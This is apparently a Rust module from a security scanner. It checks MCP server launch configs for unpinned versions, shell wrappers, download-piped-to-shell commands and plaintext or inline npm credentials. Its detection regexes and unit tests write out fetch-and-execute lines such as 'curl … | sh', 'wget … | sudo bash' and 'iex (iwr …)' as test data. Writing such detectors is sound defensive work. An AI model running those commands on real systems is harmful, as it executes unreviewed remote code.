//! Facts about how a server is launched, for the `launch` rules. Pure, and free of secrets:
//! evidence is always redacted.
//!
//! * `unpinned`: every start may fetch a different release, which is how a hijacked
//!   maintainer account reaches users without them doing anything.
//!   - npm: no version (`pkg`, which is `latest`), a range (`pkg@^1`, `pkg@1`), any dist-tag
//!     (`@latest`, `@next`, `@beta`), a git spec without a commit id (`github:o/r`, `o/r`,
//!     `git+https://…#main`). Pinned: an exact version (`pkg@1.2.3`, `pkg@=1.2.3`,
//!     `pkg@v1.2.3`) or a git commit (`#` + 7–40 hex). Tarball URLs and local paths are neither
//!     (no version to pin; reported as not unpinned).
//!   - PyPI: pinned by `==X` or uvx's `pkg@X` with X a version; unpinned otherwise.
//!   - Docker: pinned by digest (`@sha256:…`) or a version-shaped tag (`:v1.2`, `:1.2.3`; tags
//!     can be moved, but like an npm version they name a release); unpinned with no tag,
//!     `:latest`, or a word tag (`:main`, `:edge`).
//!   - Node scripts, shells, remote URLs: not applicable (`false`).
//! * `exec_call`: `npx -c`/`--call`, `npm exec -c`, `pnpm dlx -c`: a command line, not a
//!   package, is what runs.
//! * `shell_wrapper`: the command goes through `sh|bash|zsh|dash|ksh -c`, `powershell|pwsh
//!   -Command|-EncodedCommand`, or `cmd /c` with shell syntax in it. A plain `cmd /c npx …` is how
//!   Windows starts `npx.cmd` and is not flagged.
//! * `pipe_to_shell`: a download piped into an interpreter anywhere in command and args:
//!   `curl|wget|iwr|irm … | [sudo] sh|bash|zsh|python|node|iex…`, `bash <(curl …)`,
//!   `sh -c "$(curl …)"`, `iex (iwr …)`.
//! * `plaintext_secrets`: see [`super::secrets`]; located as `env.NAME`, `args[i]` (index into
//!   `args`), `headers.NAME`, `url` or `command`.
//! * `inline_npm_auth`: an npm credential (`_authToken`, `_auth`, `_password`, nerf-darted or
//!   not) given as a literal: in `env` as `npm_config_…`, or as a `--//host/:_authToken=…` flag.
//!   `${NPM_TOKEN}` is a reference (npm expands it) and is not reported.

use std::sync::LazyLock;

use regex::Regex;
use serde::{Deserialize, Serialize};

use super::launch::{is_wrapper, program_name, split_words, Launch};
use super::parse::ServerEntry;
use crate::secrets::{
    is_reference_only, npm_secret_key, redact, redact_value, scan_args, scan_value, scan_words,
    Hit, URL_USER_KIND,
};
use crate::spec::{exact_version, Selector, Spec};

/// A credential written in the config, located and redacted.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct PlaintextSecret {
    /// `env.NAME`, `args[3]`, `headers.NAME`, `url` or `command`.
    pub location: String,
    /// What it looks like: `npm token`, `GitHub token`, `secret-named value`...
    pub kind: String,
    /// The first 4 characters and `***` (only `***` under 12 characters).
    pub evidence: String,
}

/// Launch facts for one server entry.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct LaunchRisks {
    pub unpinned: bool,
    /// Why, in words: `no version (whatever \`latest\` is at each start)`, `range ^1.2.0`,
    /// `dist-tag next`...
    pub unpinned_reason: Option<String>,
    /// The exact version (or git commit, or docker digest/tag) the launch asks for.
    pub pinned_version: Option<String>,
    pub exec_call: bool,
    pub shell_wrapper: bool,
    pub pipe_to_shell: bool,
    /// The server's URL for remote transports (redacted).
    pub remote_url: Option<String>,
    pub plaintext_secrets: Vec<PlaintextSecret>,
    /// Where npm credentials are given inline: `env.npm_config_//host/:_authToken`,
    /// `--//host/:_authToken`.
    pub inline_npm_auth: Vec<String>,
}

/// The launch facts of `server`, started as `launch` (from [`super::parse_launch`]).
pub fn launch_risks(server: &ServerEntry, launch: &Launch) -> LaunchRisks {
    let mut r = LaunchRisks::default();
    let (unpinned, reason, pinned) = match launch {
        Launch::Npm { spec, .. } => npm_pin(spec),
        Launch::PyPi { package, .. } => pypi_pin(package),
        Launch::Docker { image } => docker_pin(image),
        _ => (false, None, None),
    };
    r.unpinned = unpinned;
    r.unpinned_reason = reason;
    r.pinned_version = pinned;
    r.exec_call = matches!(launch, Launch::Npm { call: Some(_), .. });
    r.shell_wrapper = matches!(launch, Launch::Shell { .. }) || shell_wrapped(server);
    let mut all = server.command.clone().unwrap_or_default();
    for a in &server.args {
        all.push(' ');
        all.push_str(a);
    }
    r.pipe_to_shell = PIPE_TO_SHELL.iter().any(|re| re.is_match(&all));
    if let Launch::Remote { url, .. } = launch {
        r.remote_url = Some(redact_value(None, url));
    }

    let mut push = |location: String, value: &str, hits: Vec<Hit>| {
        for h in hits.into_iter().filter(|h| is_finding(value, h)) {
            r.plaintext_secrets.push(PlaintextSecret {
                location: location.clone(),
                kind: h.kind.to_string(),
                evidence: redact(&value[h.range]),
            });
        }
    };
    if let Some(c) = &server.command {
        push("command".into(), c, scan_words(c));
    }
    for h in scan_args(&server.args) {
        let value = &server.args[h.index];
        push(format!("args[{}]", h.index), value, vec![h.hit]);
    }
    for (k, v) in &server.env {
        push(format!("env.{k}"), v, scan_value(Some(k), v));
    }
    for (k, v) in &server.headers {
        push(format!("headers.{k}"), v, scan_value(Some(k), v));
    }
    if let Some(u) = &server.url {
        push("url".into(), u, scan_value(None, u));
    }

    for (k, v) in &server.env {
        let is_npm = crate::npmrc::env_setting_key(k).is_some();
        if is_npm && npm_secret_key(k) && literal(v) {
            r.inline_npm_auth.push(format!("env.{k}"));
        }
    }
    if let Launch::Npm { npm_config, .. } = launch {
        for (k, v) in npm_config {
            if npm_secret_key(k) && literal(v) {
                r.inline_npm_auth.push(format!("--{k}"));
            }
        }
    }
    r
}

/// Every hit is redacted for display, but a user name in a URL is reported as a written
/// credential only when it looks like one: `git@`, `deploy@` are account names.
fn is_finding(value: &str, h: &Hit) -> bool {
    let text = &value[h.range.clone()];
    // Values of JFrog's wrapper arguments are hidden; a credential among them has its own kind.
    if h.kind == crate::secrets::JF_ARG_KIND {
        return false;
    }
    h.kind != URL_USER_KIND
        || text.len() >= 16
        || (text.len() >= 8
            && text.chars().any(|c| c.is_ascii_digit())
            && text.chars().any(|c| c.is_ascii_alphabetic()))
}

fn literal(v: &str) -> bool {
    !v.trim().is_empty() && !is_reference_only(v)
}

static PIPE_TO_SHELL: LazyLock<Vec<Regex>> = LazyLock::new(|| {
    [
        r"(?i)\b(?:curl|wget|iwr|irm|invoke-webrequest|invoke-restmethod|fetch)\b[^|\n;&]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:[\w/.-]*/)?(?:sh|bash|zsh|dash|ksh|fish|python[0-9.]*|perl|ruby|node|iex|invoke-expression|pwsh|powershell)\b",
        r"(?i)\b(?:sh|bash|zsh|dash|ksh)\s+(?:-s\s+)?<\(\s*(?:curl|wget)\b",
        r#"(?i)\b(?:sh|bash|zsh|dash|ksh)\s+-c\s+["']?\$\(\s*(?:curl|wget)\b"#,
        r"(?i)\b(?:iex|invoke-expression)\b.*\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring)\b",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("static regex"))
    .collect()
});

type Pin = (bool, Option<String>, Option<String>);

static GIT_SHORTHAND: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[A-Za-z0-9_.\-]+/[A-Za-z0-9_.\-]+(?:#.*)?$").expect("static regex")
});
static COMMIT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[0-9a-fA-F]{7,40}$").expect("static regex"));

fn npm_pin(spec: &str) -> Pin {
    let spec = spec.trim();
    if spec.is_empty() {
        return (false, None, None);
    }
    // An alias (`name@npm:real@1.2.3` or `npm:real@1.2.3`) installs the real package.
    if let Some(real) = crate::spec::alias_target(spec) {
        return npm_pin(real);
    }
    let lower = spec.to_ascii_lowercase();
    if lower.starts_with("http:")
        || lower.starts_with("https:")
        || lower.starts_with("file:")
        || spec.starts_with(['.', '/', '~'])
        || (spec.len() > 2 && spec.as_bytes()[1] == b':' && !lower.starts_with("git"))
    {
        return (false, None, None);
    }
    let is_git = ["git+", "git:", "github:", "gitlab:", "bitbucket:", "gist:"]
        .iter()
        .any(|p| lower.starts_with(p))
        || (GIT_SHORTHAND.is_match(spec) && !spec.starts_with('@'));
    if is_git {
        let committish = spec.rsplit_once('#').map(|(_, c)| c);
        return match committish {
            Some(c) if COMMIT.is_match(c) => (false, None, Some(c.to_string())),
            Some(c) => (
                true,
                Some(format!("git reference `{c}` can move; pin a commit id")),
                None,
            ),
            None => (
                true,
                Some("git repository without a commit id (default branch at each start)".into()),
                None,
            ),
        };
    }
    match Spec::parse(spec) {
        Ok(s) => match s.selector {
            Selector::Version(v) => (false, None, Some(v)),
            Selector::Range(r) => (true, Some(format!("range {r}")), None),
            Selector::Tag(t) if !spec.get(1..).unwrap_or("").contains('@') => (
                true,
                Some(format!("no version (whatever `{t}` is at each start)")),
                None,
            ),
            Selector::Tag(t) => (true, Some(format!("dist-tag {t}")), None),
        },
        Err(_) => (true, Some("not a valid package spec".into()), None),
    }
}

fn pypi_pin(package: &str) -> Pin {
    let p = package.trim();
    if let Some((_, v)) = p.split_once("==") {
        let v = v.trim();
        if !v.contains('*') && !v.contains(',') {
            return (false, None, Some(v.to_string()));
        }
        return (true, Some(format!("range =={v}")), None);
    }
    // uvx's own `pkg@1.2.3` / `pkg@latest`.
    if let Some((_, v)) = p.split_once('@') {
        if !p.contains("://") {
            if v.chars().next().is_some_and(|c| c.is_ascii_digit()) {
                return (false, None, Some(v.to_string()));
            }
            return (true, Some(format!("tag {v}")), None);
        }
    }
    if let Some(i) = p.find(['>', '<', '~', '!']) {
        return (true, Some(format!("range {}", &p[i..])), None);
    }
    (
        true,
        Some("no version (the newest release at each start)".into()),
        None,
    )
}

fn docker_pin(image: &str) -> Pin {
    if let Some((_, digest)) = image.split_once('@') {
        return (false, None, Some(digest.to_string()));
    }
    let last = image.rsplit('/').next().unwrap_or(image);
    match last.split_once(':') {
        None => (true, Some("no tag (`latest` at each pull)".into()), None),
        Some((_, tag)) if exact_version(tag).is_some() || is_version_tag(tag) => {
            (false, None, Some(tag.to_string()))
        }
        Some((_, tag)) => (
            true,
            Some(format!("tag `{tag}` moves; pin a version or a digest")),
            None,
        ),
    }
}

/// `v1`, `1.2`, `v1.2.3-alpine`: starts with a version number.
fn is_version_tag(tag: &str) -> bool {
    let t = tag.strip_prefix(['v', 'V']).unwrap_or(tag);
    t.chars().next().is_some_and(|c| c.is_ascii_digit())
}

/// Whether the command runs through a shell's `-c` (or PowerShell's `-Command`), looking
/// through `cmd /c` and `env` the way [`super::parse_launch`] does.
fn shell_wrapped(server: &ServerEntry) -> bool {
    let Some(command) = server.command.as_deref() else {
        return false;
    };
    let mut words = split_words(command, true);
    if words.len() > 1 && !is_wrapper(&program_name(&words[0])) {
        words = vec![command.to_string()];
    }
    words.extend(server.args.iter().cloned());
    for _ in 0..4 {
        let Some(first) = words.first() else {
            return false;
        };
        let rest = &words[1..];
        match program_name(first).as_str() {
            "sh" | "bash" | "zsh" | "dash" | "ksh" => {
                return rest
                    .iter()
                    .any(|a| a.starts_with('-') && !a.starts_with("--") && a.ends_with('c'));
            }
            "powershell" | "pwsh" => {
                return rest.iter().any(|a| {
                    let n = a.to_ascii_lowercase();
                    let n = n.trim_start_matches(['-', '/']);
                    a.starts_with(['-', '/'])
                        && !n.is_empty()
                        && ("command".starts_with(n)
                            || "encodedcommand".starts_with(n)
                            || n == "ec")
                });
            }
            "cmd" => {
                let Some(p) = rest
                    .iter()
                    .position(|a| a.eq_ignore_ascii_case("/c") || a.eq_ignore_ascii_case("/k"))
                else {
                    return false;
                };
                let after = &rest[p + 1..];
                words = if after.len() == 1 {
                    split_words(&after[0], false)
                } else {
                    after.to_vec()
                };
            }
            "env" => {
                let skip = rest
                    .iter()
                    .take_while(|a| a.starts_with('-') || a.contains('='))
                    .count();
                words = rest[skip..].to_vec();
            }
            _ => return false,
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::clients::parse_launch;

    fn risks(command: &str, args: &[&str]) -> LaunchRisks {
        let s = ServerEntry {
            name: "s".into(),
            command: Some(command.into()),
            args: args.iter().map(|a| a.to_string()).collect(),
            ..ServerEntry::default()
        };
        launch_risks(&s, &parse_launch(&s))
    }

    #[test]
    fn npm_pins() {
        for (spec, unpinned, pinned) in [
            ("pkg", true, None),
            ("@s/pkg", true, None),
            ("pkg@latest", true, None),
            ("pkg@next", true, None),
            ("pkg@^1.2.0", true, None),
            ("pkg@1", true, None),
            ("pkg@1.2.3", false, Some("1.2.3")),
            ("@s/pkg@v1.2.3", false, Some("1.2.3")),
            ("alias@npm:real@2.0.0", false, Some("2.0.0")),
            ("owner/repo", true, None),
            ("github:owner/repo#0123abc", false, Some("0123abc")),
            ("git+https://h/r.git#main", true, None),
            ("https://h/x.tgz", false, None),
            ("./local", false, None),
        ] {
            let (u, _, p) = npm_pin(spec);
            assert_eq!((u, p.as_deref()), (unpinned, pinned), "{spec}");
        }
        assert_eq!(npm_pin("pkg@next").1.as_deref(), Some("dist-tag next"));
        assert!(npm_pin("pkg").1.unwrap().contains("latest"));
    }

    #[test]
    fn other_pins() {
        assert!(pypi_pin("mcp-server-git").0);
        assert_eq!(pypi_pin("pkg==1.0.2").2.as_deref(), Some("1.0.2"));
        assert_eq!(pypi_pin("pkg@0.3").2.as_deref(), Some("0.3"));
        assert!(pypi_pin("pkg>=1").0);
        assert!(docker_pin("ghcr.io/github/github-mcp-server").0);
        assert!(docker_pin("mcp/fetch:latest").0);
        assert!(!docker_pin("mcp/fetch:1.2.0").0);
        assert!(!docker_pin("localhost:5000/img@sha256:abcd").0);
        assert!(docker_pin("localhost:5000/img").0);
    }

    #[test]
    fn wrappers_and_pipes() {
        let r = risks("sh", &["-c", "curl -fsSL https://get.example.sh | sh"]);
        assert!(r.shell_wrapper && r.pipe_to_shell);
        let r = risks("bash", &["-lc", "npx -y pkg@1.0.0"]);
        assert!(r.shell_wrapper && !r.pipe_to_shell && !r.unpinned);
        let r = risks("cmd", &["/c", "npx", "-y", "pkg"]);
        assert!(!r.shell_wrapper && r.unpinned);
        let r = risks("cmd", &["/c", "npx -y pkg && echo done"]);
        assert!(r.shell_wrapper);
        let r = risks(
            "powershell",
            &["-NoProfile", "-Command", "iex (iwr https://x)"],
        );
        assert!(r.shell_wrapper && r.pipe_to_shell);
        let r = risks("bash", &["-c", "bash <(curl -s https://x)"]);
        assert!(r.pipe_to_shell);
        let r = risks("sh", &["-c", "wget -qO- https://x | sudo bash"]);
        assert!(r.pipe_to_shell);
        let r = risks("npx", &["-y", "curl-mcp", "--pipe", "shell"]);
        assert!(!r.pipe_to_shell && !r.shell_wrapper);
        let r = risks("npx", &["-c", "eslint"]);
        assert!(r.exec_call && !r.unpinned);
    }

    #[test]
    fn odd_input_never_panics() {
        let words = [
            "",
            "-",
            "--",
            "-é",
            "--é=ü",
            "é",
            "npx",
            "-c",
            "-p",
            "/c",
            "docker",
            "run",
            "-e",
            "sh",
            "Bearer é",
            "ñpm_config_x",
            "npm_config_é",
            "@",
            "@é/x@",
            "cmd",
            "env",
            "=",
            "x=",
            "powershell",
            "-e",
            "node",
            "uvx",
            "--from",
        ];
        // Every pair of words, each followed by a third that shifts by one, under each runner.
        for (i, a) in words.iter().enumerate() {
            for (j, b) in words.iter().enumerate() {
                let c = words[(i + j + 1) % words.len()];
                for cmd in [
                    "npx",
                    "cmd",
                    "sh",
                    "docker",
                    "env",
                    "node",
                    "uvx",
                    "powershell",
                ] {
                    let s = ServerEntry {
                        command: Some(cmd.into()),
                        args: vec![a.to_string(), b.to_string(), c.into()],
                        env: [(a.to_string(), b.to_string())].into_iter().collect(),
                        headers: [(b.to_string(), c.to_string())].into_iter().collect(),
                        url: Some(format!("{a}{b}{c}")),
                        ..ServerEntry::default()
                    };
                    let l = parse_launch(&s);
                    let _ = launch_risks(&s, &l);
                    let _ = format!("{s:?}{l:?}");
                }
            }
        }
    }

    #[test]
    fn inline_npm_auth() {
        let s = ServerEntry {
            name: "s".into(),
            command: Some("npx".into()),
            args: vec![
                "--//flags.example/:_authToken=literaltoken123".into(),
                "pkg@1.0.0".into(),
            ],
            env: [
                ("npm_config_//npm.acme.dev/:_authToken", "abcdefabcdef1234"),
                ("NPM_CONFIG_//other.dev/:_authToken", "${NPM_TOKEN}"),
                ("npm_config__auth", "dXNlcjpwYXNzd29yZA=="),
            ]
            .into_iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect(),
            ..ServerEntry::default()
        };
        let r = launch_risks(&s, &parse_launch(&s));
        assert_eq!(
            r.inline_npm_auth,
            vec![
                "env.npm_config_//npm.acme.dev/:_authToken",
                "env.npm_config__auth",
                "--//flags.example/:_authToken",
            ]
        );
        let text = format!("{r:?}{}", serde_json::to_string(&r).unwrap());
        for secret in [
            "abcdefabcdef1234",
            "dXNlcjpwYXNzd29yZA==",
            "literaltoken123",
        ] {
            assert!(!text.contains(secret), "{text}");
        }
    }
}
